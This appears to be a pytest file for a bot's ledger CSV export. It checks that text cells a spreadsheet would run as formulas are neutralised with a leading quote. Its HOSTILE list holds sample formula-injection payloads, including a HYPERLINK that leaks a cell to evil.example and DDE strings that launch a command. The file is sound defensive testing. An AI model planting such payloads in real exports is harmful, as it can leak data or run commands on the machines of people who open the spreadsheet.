"""The ledger's CSV export: what a spreadsheet shows, never runs."""

import csv
import io

import pytest

from bot.ledger import CSV_COLUMNS, credits_csv, spreadsheet_cell

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Anna", "", "per il codice", "a=b", "2026-01-05T10:00:00", 42, -7]
)
def test_other_cells_are_unchanged(value):
    assert spreadsheet_cell(value) == value


def read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_every_text_cell_is_neutralised_and_numbers_stay_numbers():
    row = {
        "created_at": "2026-01-05T10:00:00+00:00",
        "giver_id": 301,
        "giver": HOSTILE[0],
        "giver_username": "@dario",
        "receiver_id": 302,
        "receiver": HOSTILE[4],
        "receiver_username": None,
        "by_command": 1,
        "by_words": 0,
        "by_reaction": 0,
        "counted": 0,
        "not_counted_why": "quota",
        "voided_at": None,
        "voided_by": None,
        "reason": HOSTILE[2],
        "message_id": 17,
        "thanks_message_id": 18,
    }
    [exported] = read(credits_csv([row]))
    assert list(exported) == list(CSV_COLUMNS)
    for column, cell in exported.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), column
    assert exported["giver"] == "'" + HOSTILE[0]
    assert exported["receiver"] == "'" + HOSTILE[4]
    assert exported["giver_username"] == "'@dario"
    assert exported["reason"] == "'" + HOSTILE[2]
    assert (exported["giver_id"], exported["message_id"]) == ("301", "17")
    assert exported["receiver_username"] == exported["voided_by"] == ""
    assert (exported["ways"], exported["counted"], exported["not_counted_why"]) == (
        "command",
        "no",
        "quota",
    )
